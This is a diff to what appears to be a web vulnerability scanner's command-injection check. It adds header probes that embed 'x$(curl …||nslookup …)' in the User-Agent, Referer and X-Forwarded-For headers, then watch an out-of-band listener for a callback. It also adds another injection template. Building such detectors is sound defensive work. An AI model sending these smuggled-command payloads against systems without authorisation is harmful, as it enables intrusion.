@@ -19,6 +19,7 @@ static const struct form {
 	{ "{0}\n{1}\n#'\n{1}\n#\"\n{1}\n#", SCAN_STANDARD, FRAMED },
 	{ "{0}&&{2}&&{2}'&&{2}&&{2}\"&&{2}&&{2}", SCAN_STANDARD, FRAMED },
 	{ "{0}&{4}&'&{4}&\"&{4}&", SCAN_STANDARD, BARE },
+	{ "{0}\n{3}\n#'\n{3}\n#\"\n{3}\n#", SCAN_STANDARD, BARE },
 	{ "{0};{3};#';{3};#\";{3};#", SCAN_STANDARD, BARE },
 	{ "{0}|{3}", SCAN_DEEP, BARE },
 	{ "{0}|{2}", SCAN_STANDARD, FRAMED },
@@ -147,9 +148,33 @@ static void try_calling(struct probe *p)
 	}
 }
 
+/* The usual headers, once per request: only our listener can tell. */
+static void try_headers(struct probe *p)
+{
+	static const struct str names[] = { STR_INIT("User-Agent"), STR_INIT("Referer"), STR_INIT("X-Forwarded-For") };
+	struct scan_header h[3];
+	struct scan_oob_name oob[3];
+	const struct scan_exchange *x;
+	for (size_t i = 0; i < 3; i++) {
+		if (!probe_oob_host(p, &oob[i]))
+			return;
+		h[i] = (struct scan_header){ names[i], probe_printf(p, "x$(curl -s -m 3 %.*s||nslookup %.*s)", STR_ARG(oob[i].url),
+								   STR_ARG(oob[i].host)) };
+	}
+	if (probe_send(p, &(struct scan_mutation){ .headers = h, .headers_len = 3, .fresh = true }, &x) < 0)
+		return;
+	for (size_t i = 0; i < 3; i++)
+		probe_oob_expect(p, oob[i].token, SCAN_OOB_ANY,
+				 &(struct scan_report){ .exchange = x, .proof = h[i].value, .parameter = names[i],
+							.detail_zh = STR("请求头中附加的命令被执行。"),
+							.detail_en = STR("A command added to a request header was run.") });
+}
+
 static void probe_shell(struct probe *p, const struct scan_point *pt)
 {
 	bool deep = probe_mode(p) == SCAN_DEEP;
+	if (probe_first_point(p) && probe_oob_ready(p))
+		try_headers(p);
 	if (probe_reported(p) || (pt->where == WHERE_HEADER && !deep && !active_own_header(pt)) || (probe_sqli_found(p) && !deep))
 		return;
 	for (size_t i = 0; i < ARRAY_SIZE(forms) && !probe_reported(p); i++)
@@ -167,6 +192,7 @@ const struct scan_check check_command_injection = {
 	.cwe = 78,
 	.owasp = "A03:2021",
 	.modes = SCAN_STANDARD_UP,
+	.flags = SCAN_DEEP_POINTS,
 	.place = PLACE_POINT,
 	.on_point = probe_shell,
 };
